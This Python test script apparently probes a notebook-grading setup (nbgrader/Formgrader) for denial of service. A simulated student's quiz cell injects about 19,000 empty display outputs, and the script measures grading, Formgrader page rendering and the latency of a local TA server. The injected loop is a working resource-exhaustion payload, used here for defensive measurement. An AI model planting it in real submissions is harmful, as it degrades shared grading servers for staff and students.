"""A plain v4 hand-in (within every cap of the refusal) whose kernel sends many tiny display_data outputs (the messages
cap is 20,000 a notebook): the graded notebook keeps every output (budgets cut their text, not their number), and
Formgrader renders each one. Measures mallory's grading, graded notebook, her Formgrader page and the TA server's
latency meanwhile."""
from lib import *
import socket, secrets, signal, threading, urllib.request, nbformat
N = int(os.environ.get("N", "19000"))
d = course(f"a05-{N}")
nb = honest()
for c in nb.cells:
    if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "quiz_q1":
        c.source += f"\nfrom IPython.display import display as _d\nfor _i in range({N}): _d({{'text/plain': ''}}, raw=True)\n"
put(d, "aaron", honest()); put(d, "mallory", nb); put(d, "zoe", honest())
grade(d); scores(d)
print(json.dumps(json.load(open(f"{d}/grading_report.json")), indent=0)[:2500])
g = f"{d}/autograded/mallory/{A}/{A}.ipynb"
if os.path.exists(g):
    gn = nbformat.read(g, 4); print("graded notebook bytes", os.path.getsize(g), "outputs", sum(len(c.get("outputs", [])) for c in gn.cells))
db = sqlite3.connect(f"{d}/gradebook.db")
rows = dict((s, n) for n, s in db.execute("select n.id, s.student_id from submitted_notebook n join submitted_assignment s on n.assignment_id=s.id"))
s = socket.socket(); s.bind(("127.0.0.1", 0)); port = s.getsockname()[1]; s.close()
tok = secrets.token_hex(8)
lab = subprocess.Popen([f"{CLONE}/.venv/bin/jupyter", "lab", f"--notebook-dir={d}", "--allow-root", "--no-browser",
                        f"--port={port}", f"--IdentityProvider.token={tok}", "--ServerApp.ip=127.0.0.1"],
                       cwd=d, env=dict(os.environ, PYTHONSAFEPATH="1", DISTCOURSE_JUDGE="kernel"),
                       stdout=open(f"/tmp/attack37-root-a05-lab.log", "w"), stderr=subprocess.STDOUT, start_new_session=True)
try:
    for _ in range(90):
        try: urllib.request.urlopen(f"http://127.0.0.1:{port}/api/status?token={tok}"); break
        except Exception: time.sleep(1)
    for who in ("aaron", "mallory"):
        lat = []; stop = threading.Event()
        def probe():
            while not stop.is_set():
                t = time.time()
                try: urllib.request.urlopen(f"http://127.0.0.1:{port}/api/status?token={tok}", timeout=600).read()
                except Exception: pass
                lat.append(time.time() - t); time.sleep(0.5)
        th = threading.Thread(target=probe); th.start()
        t = time.time()
        try:
            page = urllib.request.urlopen(f"http://127.0.0.1:{port}/formgrader/submissions/{rows[who]}/?token={tok}", timeout=600).read()
            print(f"{who}: Formgrader page {len(page):,} bytes in {time.time()-t:.1f} s", end="; ")
        except Exception as e:
            print(who, "page error", e, f"after {time.time()-t:.1f}s", end="; ")
        stop.set(); th.join()
        print(f"TA server /api/status worst latency meanwhile {max(lat):.1f} s")
finally:
    os.killpg(lab.pid, signal.SIGTERM)
    try: lab.wait(15)
    except subprocess.TimeoutExpired: os.killpg(lab.pid, signal.SIGKILL); lab.wait()
